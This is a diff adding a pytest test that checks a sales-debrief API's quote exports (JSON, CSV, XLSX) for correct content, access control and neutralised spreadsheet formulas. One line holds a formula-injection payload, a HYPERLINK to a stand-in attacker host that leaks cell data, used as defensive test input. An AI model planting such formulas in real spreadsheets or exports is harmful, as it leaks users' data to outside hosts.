@@ -4,6 +4,10 @@ account."""
 
 from __future__ import annotations
 
+import csv
+import io
+
+import openpyxl
 from helpers.insight_world import made_in, own_month
 from helpers.server_world import People
 
@@ -66,3 +70,40 @@ def test_quote_questions_out_of_range_are_a_422(people: People):
         assert answer.status_code == 422, params
         assert answer.json()["detail"][0]["loc"] == ["query", name]
     assert people("rep").api.get("/api/v1/insights/quotes").status_code == 403
+
+
+def test_quotes_export_holds_what_the_route_lists_with_formulas_made_inert(
+        people: People, new_debrief):
+    month = own_month()
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"price")'
+    ann, bob = people("rep"), people("rep")
+    ann.api.push(*[lost(new_debrief, month, "software", "evaluation", payload)
+                   for _ in range(3)])
+    bob.api.push(*[lost(new_debrief, month, "software", "evaluation",
+                        "@SUM(1+1) was their word for our price") for _ in range(3)])
+    marketing = people("marketing").api
+    listed = quotes(marketing, month, limit=100)["quotes"]
+    assert len(listed) == 12  # 6 quotes, each under its two reasons
+    params = {"from": month, "to": month}
+
+    exported = marketing.get("/api/v1/exports/quotes.json", params=params)
+    assert exported.status_code == 200, exported.text
+    body = exported.json()
+    assert body["schema"] == "debrief.shared-quotes/1"
+    assert [(row["quote"], row["reason_code"], row["industry"]) for row in body["rows"]] == [
+        (quote["text"], quote["code"], quote["industry"]) for quote in listed]
+    assert body["rows"][0]["reason_label"] and "OPP-secret-42" not in exported.text
+
+    text = marketing.get("/api/v1/exports/quotes.csv",
+                         params={**params, "dialect": "excel"}).content.decode("utf-8-sig")
+    rows = list(csv.DictReader(io.StringIO(text)))
+    assert [row["quote"] for row in rows] == ["'" + quote["text"] for quote in listed]
+
+    workbook = marketing.get("/api/v1/exports/quotes.xlsx", params=params)
+    assert workbook.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(workbook.content))["Quotes"]
+    cells = [row[-1] for row in sheet.iter_rows(min_row=2)]
+    assert [cell.value for cell in cells] == [quote["text"] for quote in listed]
+    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula
+    assert people("rep").api.get("/api/v1/exports/quotes.csv",
+                                 params=params).status_code == 403
